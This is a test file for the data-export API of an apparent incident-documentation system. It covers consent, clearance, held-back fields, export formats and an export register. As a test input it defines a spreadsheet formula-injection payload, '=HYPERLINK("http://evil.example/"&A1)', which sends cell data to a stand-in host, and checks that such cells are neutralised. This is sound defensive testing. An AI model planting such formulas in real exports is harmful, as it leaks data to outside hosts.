import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { audit } from '../../audit/index.ts';
import { type Change, commit, newId, openOperatorSession, sequence } from '../../record/index.ts';
import { storeFile } from '../../store/index.ts';
import { startTestServer, type TestServer } from '../../testing/server.ts';
import { csvRow } from './csv-cells.ts';

let cairn: TestServer;
let ids: Record<'market' | 'young' | 'aside' | 'act' | 'denial' | 'quiet' | 'item' | 'group' | 'link', string>;
let tokens: Record<'contributor' | 'reader' | 'stranger', string>;

const PUBLIC = { sensitivity: 'public' };
const FORMULA = '=HYPERLINK("http://evil.example/"&A1)';
const DEPOT = 'A depot stands 300 m to the north';

beforeAll(async () => {
  cairn = await startTestServer();
  tokens = {
    contributor: await cairn.addPerson('contributor', { role: 'contributor', clearance: 'internal' }),
    reader: await cairn.addPerson('reader', { role: 'reader', clearance: 'internal' }),
    stranger: await cairn.addPerson('stranger'),
  };
  ids = Object.fromEntries(
    ['market', 'young', 'aside', 'act', 'denial', 'quiet', 'item', 'group', 'link'].map((name) => [name, newId()]),
  ) as typeof ids;
  const { id: compartment } = cairn.compartment;
  const { writeFileSync } = await import('node:fs');
  const path = `${cairn.data}/statement.txt`;
  writeFileSync(path, 'what was said');
  const file = await storeFile(cairn.instance, compartment, path);
  const of = (kind: Change['kind'], id: string, body: Change['body']): Change => ({
    id,
    kind,
    compartment,
    base: 0,
    body,
  });
  const time = { start: '2021-03-03', precision: 'few-days', tz: 'Europe/Kyiv', asStated: 'early March' };
  const place = {
    point: { latitude: 48.5, longitude: 35.25 },
    radiusM: 4000,
    precision: 'near',
    name: { en: 'Lowmarket' },
  };
  const killed = (best: number) => [{ outcome: 'killed', count: { low: 2, best, high: 9, unit: 'persons' } }];
  const market = { title: FORMULA, time, place, counts: killed(3), context: DEPOT, summary: 'inner', ...PUBLIC };
  const basis = [{ statementId: ids.denial, recordedBy: 'x', recordedAt: '2031-03-07T10:00:00Z', method: 'm' }];
  const about = [{ record: ids.market, field: 'counts' }];
  const recent = { start: new Date(Date.now() - 3_600_000).toISOString(), precision: 'minute' };
  const session = await openOperatorSession(cairn.instance);
  await commit(
    cairn.instance,
    session,
    [
      of('item', ids.item, {
        itemKind: 'testimony',
        file,
        title: 'Refused',
        consent: { status: 'refused' },
        ...PUBLIC,
      }),
      of('incident', ids.market, market),
      of('statement', ids.denial, {
        about,
        asserts: { counts: killed(7) },
        text: '@SUM(1)',
        reliability: 'B',
        ...PUBLIC,
      }),
      of('statement', ids.quiet, {
        about: [{ record: ids.market }],
        item: ids.item,
        text: 'Without consent',
        ...PUBLIC,
      }),
      of('act', ids.act, {
        incident: ids.market,
        type: { scheme: 'act-type', code: 'killing' },
        basis,
        level: 1,
        ...PUBLIC,
      }),
      of('actor', ids.group, { actorType: 'armed-group', names: [{ text: 'Red Fold' }], ...PUBLIC }),
      of('link', ids.link, { from: ids.group, to: ids.act, type: 'perpetrator-of', basis, level: 1, ...PUBLIC }),
      of('incident', ids.young, { title: 'An hour ago', time: recent, ...PUBLIC }),
      of('incident', ids.aside, { title: 'Set aside', status: 'set-aside', ...PUBLIC }),
    ],
    'As it was told',
  );
  await sequence(cairn.instance);
});
afterAll(() => cairn?.stop());

const MARKET = () => `record=${ids.market}`;

function ask(path: string, body: object | null, token = cairn.token, method = body === null ? 'GET' : 'POST') {
  return fetch(cairn.origin + path, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body === null ? {} : { 'content-type': 'application/json' }) },
    ...(body === null ? {} : { body: JSON.stringify(body) }),
  });
}

function wish(more: object = {}): object {
  return { query: MARKET(), format: 'csv', purpose: 'publication', recipient: 'Everybody', ...more };
}

async function taken(more: object = {}, token = cairn.token): Promise<{ bytes: Uint8Array; departure: string }> {
  const answer = await ask('/api/v1/exports', wish(more), token);
  if (answer.status !== 200) throw new Error(`${answer.status} ${await answer.text()}`);
  return { bytes: new Uint8Array(await answer.arrayBuffer()), departure: answer.headers.get('cairn-departure') ?? '' };
}

async function tables(more: object = {}): Promise<Record<string, Record<string, string>[]>> {
  const files = Object.entries(unzipSync((await taken(more)).bytes));
  return Object.fromEntries(
    files
      .filter(([name]) => name.endsWith('.csv'))
      .map(([name, bytes]) => [name.replace('.csv', ''), parse(strFromU8(bytes), { columns: true, bom: true })]),
  );
}

interface Entry {
  id: string;
  state: string;
  whole: boolean;
  recipient: string | null;
  name: string | null;
  digest: string | null;
  records: Record<string, number> | null;
  chosen: { field: string }[] | null;
  warnings: string[] | null;
}

async function register(token = cairn.token): Promise<Entry[]> {
  const answer = await ask('/api/v1/departures', null, token);
  expect(answer.status).toBe(200);
  return ((await answer.json()) as { departures: Entry[] }).departures;
}

test('a text that a spreadsheet would run is neutralised, a number is left alone', () => {
  expect(csvRow(['=1+1', '+A1', '-A1', '@x', '\tx', '\rx', ' =x', '＝x'])).toBe(
    `'=1+1,'+A1,'-A1,'@x,'\tx,"'\rx",' =x,'＝x\r\n`,
  );
  // Where a semicolon parts cells, one text is two; a quote that does not begin a cell holds nothing together.
  expect(csvRow(['a;=1+1', 'b; +x', 'c\n@y', 'd;\t-z', 'e;f'])).toBe(`a;'=1+1,b; '+x,"c\n'@y",d;\t'-z,e;f\r\n`);
  expect(csvRow([-5, '-5', '+5.2', null, 'a,b', 'say "so"', 'plain'])).toBe('-5,-5,+5.2,,"a,b","say ""so""",plain\r\n');
});

test('tables hold what may leave and say what did not; a value leaves with what contradicts it', async () => {
  const { incidents, counts, contradictions, statements, involved, acts, ...others } = await tables();
  expect(incidents).toHaveLength(1);
  expect(incidents?.[0]).toMatchObject({
    id: ids.market,
    title: `'${FORMULA}`,
    time_as_stated: 'early March',
    time_precision: 'few-days',
    place_latitude: '48.5',
    place_longitude: '35.25',
    place_radius_m: '4000',
    summary: '',
    context: '',
    contradicted: 'counts',
    held_back: 'context: military; summary: level',
  });
  expect(incidents?.[0]?.time_from).toMatch(/^2021-02-2/);
  expect(counts?.[0]).toMatchObject({ outcome: 'killed', low: '2', best: '3', high: '9', unit: 'persons' });
  expect(contradictions).toHaveLength(1);
  expect(contradictions?.[0]).toMatchObject({ record_id: ids.market, field: 'counts' });
  expect(contradictions?.[0]?.said).toContain('"best":7');
  expect(contradictions?.[0]?.statement_reference).toMatch(/^TEA-/);
  expect(statements?.map(({ id }) => id)).toEqual([ids.denial]);
  expect(acts?.[0]).toMatchObject({ type: 'killing', level: '1', level_words: 'Some indication' });
  // Below level 3 nobody is named as a perpetrator in public.
  expect(involved).toEqual([]);
  expect(others['held-back']).toContainEqual({ what: 'link', why: 'perpetrator-level', n: '1' });
  expect(others['held-back']).toContainEqual({ what: 'statement', why: 'consent-refused', n: '1' });
});

test('for a court the same query holds more; nearby military objects only where a lead chose them by name', async () => {
  const court = { purpose: 'accountability', recipient: 'The court' };
  const { incidents, involved } = await tables(court);
  expect(incidents?.[0]).toMatchObject({ summary: 'inner', context: '' });
  expect(involved?.[0]).toMatchObject({ actor_names: 'Red Fold', role: 'perpetrator-of', level: '1' });
  const chosen = await tables({ ...court, fields: ['incident.context'] });
  expect(chosen.incidents?.[0]?.context).toBe(DEPOT);
  expect((await register())[0]?.chosen).toMatchObject([{ field: 'incident.context' }]);
  const refused = await ask('/api/v1/exports', wish({ fields: ['incident.context'] }), tokens.contributor);
  expect(refused.status).toBe(403);
  expect((await ask('/api/v1/exports', wish({ fields: ['incident.none'] }))).status).toBe(422);
});

test('a preview says what stays and why, and a young incident leaves only once that was accepted', async () => {
  const both = { query: `record=${ids.young}&record=${ids.aside}&record=${ids.market}` };
  const preview = (await (await ask('/api/v1/exports/preview', wish(both))).json()) as Record<string, unknown>;
  expect(preview).toMatchObject({ found: 3, records: { incident: 1, act: 1, statement: 1 }, mayChoose: true });
  expect(preview.warnings).toContainEqual({ code: 'young', n: 1, tick: true });
  const aside = { what: 'incident', why: 'set-aside', n: 1 };
  const named = { id: expect.any(String), reference: expect.stringMatching(/^[A-Z]+-\d+$/) };
  expect(preview.heldBack).toContainEqual({ ...aside, records: [named] });
  expect(preview.fields).toContainEqual({ field: 'incident.context', state: 'choosable', why: 'military' });
  expect((await ask('/api/v1/exports', wish(both))).status).toBe(422);
  const { incidents } = await tables({ ...both, accept: ['young'], include: ['set-aside'] });
  expect(incidents?.map(({ id }) => id).sort()).toEqual([ids.young, ids.aside, ids.market].sort());
  expect((await register())[0]?.warnings).toEqual(['young']);
  const set = await ask('/api/v1/departures/delay', { hours: 0 }, cairn.token, 'PUT');
  expect(await set.json()).toEqual({ hours: 0 });
  expect((await ask('/api/v1/departures/delay', { hours: 1 }, tokens.contributor, 'PUT')).status).toBe(403);
  expect((await taken(both)).bytes.length).toBeGreaterThan(0);
});

test('GeoJSON has longitude before latitude, the circle as a radius, and the contradiction beside the value', async () => {
  const { bytes } = await taken({ format: 'geojson' });
  const { features, about } = JSON.parse(strFromU8(bytes)) as {
    about: { terms: string; recipient: string };
    features: { geometry: unknown; properties: Record<string, unknown> }[];
  };
  expect(about.recipient).toBe('Everybody');
  expect(features[0]?.geometry).toEqual({ type: 'Point', coordinates: [35.25, 48.5] });
  expect(features[0]?.properties).toMatchObject({ radius: 4000, precision: 'near', heldBack: { context: 'military' } });
  expect(features[0]?.properties.contradictions).toMatchObject([{ field: 'counts' }]);
});

test('a workbook is read by another program, its texts as they are and its numbers as numbers', async () => {
  const sheets = await readXlsxFile(Buffer.from((await taken({ format: 'xlsx' })).bytes));
  const first = sheets.find(({ sheet }) => sheet === 'incidents')?.data ?? [];
  const [head = [], row = []] = first;
  expect(row[head.indexOf('title')]).toBe(FORMULA);
  expect(row[head.indexOf('place_latitude')]).toBe(48.5);
  expect(sheets.map(({ sheet }) => sheet)).toContain('contradictions');
});

test('a workbook that can be brought back is for the team alone, and lies beside what contradicts its values', async () => {
  const { bytes } = await taken({ format: 'workbook', purpose: 'own-work' });
  const files = unzipSync(bytes);
  expect(Object.keys(files).sort()).toEqual(
    ['about.txt', 'contradictions.csv', 'held-back.csv', 'statements.csv', 'workbook.xlsx'].sort(),
  );
  const sheets = await readXlsxFile(Buffer.from(files['workbook.xlsx'] as Uint8Array));
  const text = JSON.stringify(sheets);
  expect(text).toContain(ids.market);
  expect(text).not.toContain(DEPOT);
  expect(strFromU8(files['contradictions.csv'] as Uint8Array)).toContain('counts');
  expect((await ask('/api/v1/exports', wish({ format: 'workbook' }))).status).toBe(422);
});

test('the register names what left before its first byte, with the digest of the very file; leads read who, others that', async () => {
  const { bytes, departure } = await taken();
  const entry = (await register()).find(({ id }) => id === departure);
  expect(entry).toMatchObject({ state: 'left', whole: true, recipient: 'Everybody', name: 'Lead' });
  expect(entry?.digest).toBe(createHash('sha256').update(bytes).digest('hex'));
  expect(entry?.records).toEqual({ incident: 1, act: 1, statement: 1 });
  const seen = (await register(tokens.reader)).find(({ id }) => id === departure);
  expect(seen).toMatchObject({ state: 'left', whole: false, recipient: null, name: null, digest: null, records: null });
  expect(await register(tokens.stranger)).toEqual([]);
  const own = await taken({}, tokens.contributor);
  expect((await register(tokens.contributor))[0]).toMatchObject({ id: own.departure, whole: true });
});

test('readers take nothing out, and what one may not see is not found', async () => {
  expect((await ask('/api/v1/exports', wish(), tokens.reader)).status).toBe(403);
  expect((await ask('/api/v1/exports', wish(), tokens.stranger)).status).toBe(403);
  expect((await ask('/api/v1/exports/preview', wish(), tokens.reader)).status).toBe(403);
  expect((await ask('/api/v1/exports', wish({ query: `record=${newId()}` }))).status).toBe(422);
  expect((await ask('/api/v1/exports', wish({ query: 'bbox=here' }))).status).toBe(422);
});

test('whoever cannot see what somebody agreed to takes nothing of it out as if they had', async () => {
  const guarded = newId();
  const said = newId();
  const session = await openOperatorSession(cairn.instance);
  const compartment = cairn.compartment.id;
  const item = { itemKind: 'testimony', consent: { status: 'withdrawn' } };
  const make = (kind: Change['kind'], id: string, body: Change['body']) => ({ id, kind, compartment, base: 0, body });
  await commit(
    cairn.instance,
    session,
    [
      make('item', guarded, { ...item, sensitivity: 'case-only' }),
      make('statement', said, { about: [{ record: ids.young }], item: guarded, text: 'Guarded', ...PUBLIC }),
    ],
    'Told in confidence',
  );
  const outer = await cairn.addPerson('outer', { role: 'contributor', clearance: 'public' });
  const preview = async (query: string, token: string) => {
    const asked = await ask('/api/v1/exports/preview', wish({ query, purpose: 'partner' }), token);
    return (await asked.json()) as { heldBack: object[]; records: object };
  };
  const unseen = await preview(`kind=statement&record=${said}`, tokens.contributor);
  expect(unseen.records).toEqual({});
  expect(unseen.heldBack).toContainEqual(
    expect.objectContaining({ what: 'statement', why: 'consent-not-asked', n: 1 }),
  );
  const unread = await preview(`kind=item&record=${ids.item}`, outer);
  expect(unread.records).toEqual({});
  expect(unread.heldBack).toContainEqual(expect.objectContaining({ what: 'item', why: 'consent-not-asked', n: 1 }));
});

test('a download that was broken off stays entered, without a digest', async () => {
  const { exportQuery } = await import('./index.ts');
  const session = await openOperatorSession(cairn.instance);
  const given = { query: MARKET(), format: 'csv', purpose: 'publication', recipient: 'Everybody' } as const;
  const { chunks, departure } = await exportQuery(cairn.instance, session, given);
  expect((await register()).find(({ id }) => id === departure)).toMatchObject({ state: 'begun', digest: null });
  await chunks.next();
  await chunks.return(undefined);
  expect((await register()).find(({ id }) => id === departure)).toMatchObject({ state: 'broken-off', digest: null });
});

test('the chain of custody of an item tells that it was exported, and audit finds nothing', async () => {
  const { id: compartment } = cairn.compartment;
  const [given, refused] = [newId(), ids.item];
  const session = await openOperatorSession(cairn.instance);
  const body = { itemKind: 'paper', title: 'Given', ...PUBLIC };
  await commit(cairn.instance, session, [{ id: given, kind: 'item', compartment, base: 0, body }], 'Added');
  const { items } = await tables({ query: `kind=item&record=${given}&record=${refused}` });
  expect(items?.map(({ id }) => id)).toEqual([given]);
  const custodyOf = async (id: string) => {
    const answer = await ask(`/api/v1/items/${id}/evidence`, null);
    return ((await answer.json()) as { custody: { event: string }[] }).custody.map(({ event }) => event);
  };
  expect(await custodyOf(given)).toContain('exported');
  expect(await custodyOf(refused)).not.toContain('exported');
  await sequence(cairn.instance);
  expect((await audit(cairn.instance)).findings).toEqual([]);
});
